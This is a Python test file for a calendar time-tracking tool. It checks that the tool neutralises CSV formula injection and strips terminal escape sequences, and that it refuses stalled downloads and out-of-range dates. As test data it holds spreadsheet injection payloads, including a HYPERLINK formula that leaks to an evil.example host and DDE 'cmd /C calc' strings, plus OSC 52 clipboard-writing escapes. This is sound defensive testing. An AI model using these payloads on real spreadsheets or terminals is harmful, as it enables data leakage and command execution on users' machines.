"""Hostile input and limits: nothing injected into other programs, no traceback, no hang.

Issue 12, items 1-3 and 7: CSV cells that would run in a spreadsheet, terminal escapes from
servers, file names and URLs, a download that drips forever, days out of range (on the
command line and paging in the app).
"""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from pathlib import Path

import pytest

from ictime.render import blocks_csv
from ictime.service import demo_config
from ictime.store import Store
from ictime.timeutil import FIRST_DAY, LAST_DAY
from ictime.tui.app import IctimeApp
from ictime.tui.screens.today_screen import TodayScreen
from ictime.tui.screens.week_screen import WeekScreen
from support import ME
from support.blocks import MON, block
from support.cli import run_ictime
from support.http import dripping_handler, hostile_reason_handler, raw_answer_handler, serve
from support.ics import WriteIcs, vevent
from support.tui import SIZE, fixed_clock, settle, wait_until

# What a spreadsheet runs when a cell starts with it (OWASP's list).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak","y")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
)
PLAIN_NUMBER = re.compile(r"-?\d+(\.\d+)?([eE][-+]?\d+)?")
# Operating system commands (OSC 52 writes the clipboard, OSC 0 sets the window title), BEL,
# clear-screen and a C1 control: none may reach the terminal.
ESCAPES = "\x1b]52;c;cHduZWQ=\x07\x1b]0;pwned\x07\x1b[2J\x9b31m"
CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")


def runs_in_a_spreadsheet(cell: str) -> bool:
    """Whether a spreadsheet would take the cell for a formula (a plain number is data)."""
    return cell.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.fullmatch(cell)


def cells(document: str) -> list[list[str]]:
    """The rows of a CSV document."""
    return list(csv.reader(io.StringIO(document, newline="")))


# -- 1. CSV cells never become formulas ---------------------------------------------------


def test_blocks_csv_neutralises_formulas_from_the_calendar(
    write_ics: WriteIcs, db_path: Path, config_file: Path
) -> None:
    events = [
        vevent(f"f{n}", f"20261124T{9 + n:02d}0000", f"20261124T{9 + n:02d}3000", title)
        for n, title in enumerate(FORMULAS)
    ]
    events.append(vevent("=uid", "20261125T090000", "20261125T093000", "Plain title"))
    path = write_ics(*events, calname="=cmd|' /C calc'!A0")
    assert run_ictime("import", str(path), db=db_path, config=config_file).returncode == 0
    result = run_ictime("blocks", "--format", "csv", db=db_path, config=config_file)
    assert result.returncode == 0, result.stderr
    header, *rows = cells(result.stdout)
    records = [dict(zip(header, row, strict=True)) for row in rows]
    assert sorted(r["summary"] for r in records) == sorted(
        [*(f"'{title}" for title in FORMULAS), "Plain title"]
    )
    assert {r["calendar"] for r in records} == {"'=cmd|' /C calc'!A0"}
    assert "'=uid" in {r["uid"] for r in records}
    assert not [cell for row in rows for cell in row if runs_in_a_spreadsheet(cell)]


@pytest.mark.parametrize("start", ["\t=1+1", "\r=1+1", "=1+1", "+1", "-x", "@x"])
def test_every_formula_start_is_neutralised_and_plain_text_kept(start: str) -> None:
    document = blocks_csv(
        [
            block(MON, "09:00", "10:00", summary=start),
            block(MON, "10:00", "11:00", summary="a = b, said -x"),
        ]
    )
    assert f",'{start}," in document
    assert ',"a = b, said -x",' in document


def test_report_csv_has_no_formula_cells(
    write_ics: WriteIcs, db_path: Path, config_file: Path
) -> None:
    path = write_ics(
        *(
            vevent(f"f{n}", f"20261124T{9 + n:02d}0000", f"20261124T{9 + n:02d}3000", title)
            for n, title in enumerate(FORMULAS)
        )
    )
    assert run_ictime("import", str(path), db=db_path, config=config_file).returncode == 0
    result = run_ictime("report", "--format", "csv", "--weeks", "2", db=db_path, config=config_file)
    assert result.returncode == 0, result.stderr
    rows = cells(result.stdout)
    assert any(cell.startswith("-") for row in rows for cell in row)  # a negative drift
    assert not [cell for row in rows for cell in row if runs_in_a_spreadsheet(cell)]


# -- 2. Nothing from outside reaches the terminal with its escapes ------------------------


def assert_no_escapes(*outputs: str) -> None:
    """No control character (but line breaks) in what the command printed."""
    for output in outputs:
        assert not CONTROL.search(output), repr(output)
        assert "Traceback" not in output


def test_a_servers_reason_phrase_is_printed_without_its_escapes(
    db_path: Path, config_file: Path
) -> None:
    with serve(hostile_reason_handler(f"Not Found {ESCAPES}gone")) as base:
        result = run_ictime("import", f"{base}/work.ics", db=db_path, config=config_file)
    assert result.returncode == 1
    assert_no_escapes(result.stdout, result.stderr)
    assert "HTTP 404 Not Found" in result.stderr and "gone" in result.stderr


def test_file_names_and_urls_are_printed_without_their_escapes(
    write_ics: WriteIcs, db_path: Path, config_file: Path, tmp_path: Path
) -> None:
    good = write_ics(
        vevent("a", "20261124T090000", "20261124T100000", "Plan"), name=f"w{ESCAPES}.ics"
    )
    missing = tmp_path / f"gone{ESCAPES}.ics"
    url = f"http://127.0.0.1:9/{ESCAPES}.ics"
    result = run_ictime("import", str(good), str(missing), url, db=db_path, config=config_file)
    assert result.returncode == 1
    assert_no_escapes(result.stdout, result.stderr)
    assert "1 added" in result.stdout
    assert "no such file" in result.stderr and "not a usable URL" in result.stderr


# -- 3. A download that never ends is cut off ---------------------------------------------


@pytest.mark.parametrize("in_headers", [True, False], ids=["headers", "body"])
def test_a_dripping_download_is_cut_off_at_its_deadline(
    in_headers: bool, db_path: Path, tmp_path: Path
) -> None:
    config = tmp_path / "config.toml"
    config.write_text(
        f'timezone = "America/New_York"\n[me]\nemails = ["{ME}"]\n'
        "[import]\ndownload_timeout_seconds = 1\n"
    )
    with serve(dripping_handler(in_headers=in_headers)) as base:
        result = run_ictime("import", f"{base}/work.ics", db=db_path, config=config)
    assert result.returncode == 1
    assert "Traceback" not in result.stderr
    assert "not downloaded within 1 s" in result.stderr
    assert "download_timeout_seconds" in result.stderr


@pytest.mark.parametrize(
    ("answer", "message"),
    [
        (
            b"HTTP/1.1 200 OK\r\nContent-Length: 1000\r\n\r\nBEGIN:VCALENDAR\r\n",
            "cut off: the server sent less than it announced",
        ),
        (b"SPDY/9 nonsense\r\n\r\n", "a broken answer from the server"),
    ],
    ids=["cut-off", "no-http"],
)
def test_a_broken_answer_fails_the_source_with_a_message(
    answer: bytes, message: str, db_path: Path, config_file: Path
) -> None:
    with serve(raw_answer_handler(answer)) as base:
        result = run_ictime("import", f"{base}/work.ics", db=db_path, config=config_file)
    assert result.returncode == 1
    assert "Traceback" not in result.stderr and message in result.stderr


def test_the_download_deadline_is_checked_in_the_config(db_path: Path, tmp_path: Path) -> None:
    config = tmp_path / "config.toml"
    config.write_text('timezone = "America/New_York"\n[import]\ndownload_timeout_seconds = 0\n')
    result = run_ictime("blocks", db=db_path, config=config)
    assert result.returncode == 2
    assert "download_timeout_seconds" in result.stderr and "Traceback" not in result.stderr


# -- 7. Days out of range ------------------------------------------------------------------


@pytest.mark.parametrize(
    ("args", "today"),
    [
        (("blocks", "--week", "this"), "0001-01-01"),
        (("blocks", "--week", "next"), "9999-12-31"),
        (("blocks", "--week", "next"), "2999-12-31"),
        (("report",), "0001-01-01"),
        (("report",), "9999-12-31"),
        (("suggest",), "9999-12-31"),
        (("blocks", "--week", "9999-W52"), "2026-11-25"),
        (("report", "--week", "9999-W52"), "2026-11-25"),
        (("suggest", "--week", "0001-W01"), "2026-11-25"),
        (("blocks", "--from", "0001-01-01", "--to", "9999-12-31"), "2026-11-25"),
        (("report", "--from", "0001-01-01", "--to", "9999-12-31"), "2026-11-25"),
        (("import", "x.ics", "--from", "0001-01-01", "--to", "9999-12-31"), "2026-11-25"),
        (("import", "x.ics"), "9999-12-31"),
        ((), "9999-12-31"),  # the app
    ],
)
def test_days_out_of_range_are_refused_with_a_message(
    args: tuple[str, ...], today: str, db_path: Path, config_file: Path
) -> None:
    result = run_ictime(*args, db=db_path, config=config_file, today=today)
    assert result.returncode == 2, result
    assert "Traceback" not in result.stderr
    assert "1900-01-01 to 2999-12-31" in result.stderr


@pytest.mark.parametrize(
    ("args", "today"),
    [
        (("report", "--weeks", "520"), "1900-01-01"),
        (("report", "--format", "json"), "2999-12-31"),
        (("blocks", "--week", "last"), "2999-12-31"),
        (("suggest", "--week", "2999-W52"), "2999-12-31"),
        (("report", "--from", "1900-01-01", "--to", "1900-01-01"), "2026-11-25"),
    ],
)
def test_the_first_and_last_supported_days_work(
    args: tuple[str, ...], today: str, db_path: Path, config_file: Path
) -> None:
    result = run_ictime(*args, db=db_path, config=config_file, today=today)
    assert result.returncode == 0, result.stderr
    assert "Traceback" not in result.stderr


def notes_of(app: IctimeApp, monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Every notification the app shows from now on, as text."""
    shown: list[str] = []
    original = app.notify

    def record(message: str, *args: object, **kwargs: object) -> None:
        shown.append(message)
        original(message, *args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(app, "notify", record)
    return shown


@pytest.mark.parametrize(("today", "forward"), [(LAST_DAY, True), (FIRST_DAY, False)])
async def test_paging_past_the_supported_days_is_refused(
    today: date, forward: bool, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    store = Store.open(tmp_path / "ictime.db")
    app = IctimeApp(store, demo_config(), today, export_dir=tmp_path, clock=fixed_clock)
    notes = notes_of(app, monkeypatch)
    try:
        async with app.run_test(size=SIZE) as pilot:
            await settle(pilot)
            screen = app.screen
            assert isinstance(screen, TodayScreen)
            await pilot.press("right" if forward else "left")
            await settle(pilot)
            assert screen.day in (None, today)
            await pilot.press("w")
            await wait_until(pilot, lambda: isinstance(app.screen, WeekScreen), "the Week")
            await settle(pilot)
            week = app.screen
            assert isinstance(week, WeekScreen)
            shown = week.shown_monday
            await pilot.press("right_square_bracket" if forward else "left_square_bracket")
            await settle(pilot)
            assert week.shown_monday == shown
            # The other way is open.
            await pilot.press("left_square_bracket" if forward else "right_square_bracket")
            await settle(pilot)
            assert week.shown_monday != shown
            assert app.is_running and not app.failures
        assert len([n for n in notes if "1900-01-01 to 2999-12-31" in n]) == 2
    finally:
        store.close()
